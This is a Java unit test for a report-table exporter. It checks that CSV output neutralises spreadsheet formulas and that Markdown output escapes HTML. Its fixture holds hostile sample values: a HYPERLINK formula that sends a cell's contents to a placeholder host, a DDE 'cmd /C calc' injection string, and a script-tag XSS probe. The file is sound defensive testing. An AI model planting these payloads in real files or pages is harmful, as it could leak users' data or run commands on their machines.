package org.dutygraph.reports;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Reports are safe to open: no live formulas in a spreadsheet, no live HTML in a Markdown viewer. */
@DisplayName("Report tables")
class TableTest {

    static final Table HOSTILE = new Table("Report", List.of("clause", "value"), List.of(
            List.of("=HYPERLINK(\"http://example.invalid/?\"&E3,\"点击查看详情\")", "-5"),
            List.of("+1+2", "3.5"),
            List.of("@SUM(A1:A2)", "12%"),
            List.of("-cmd|' /C calc'!A0", "-2.5"),
            List.of("\tleading tab", "x"),
            List.of("＝全角等号", "ok"),
            List.of("<script>alert(1)</script>", "a|b")));

    @Test
    void csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_plain_numbers_stay_numbers() {
        List<String> lines = HOSTILE.csv().substring(1).lines().toList();

        assertThat(lines).containsExactly(
                "clause,value",
                "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&E3,\"\"点击查看详情\"\")\",-5",
                "'+1+2,3.5",
                "'@SUM(A1:A2),12%",
                "'-cmd|' /C calc'!A0,-2.5",
                "'\tleading tab,x",
                "'＝全角等号,ok",
                "<script>alert(1)</script>,a|b");
    }

    @Test
    void markdown_cells_keep_html_as_text() {
        assertThat(HOSTILE.markdown()).contains("| &lt;script&gt;alert(1)&lt;/script&gt; | a\\|b |")
                .doesNotContain("<script>");
    }
}
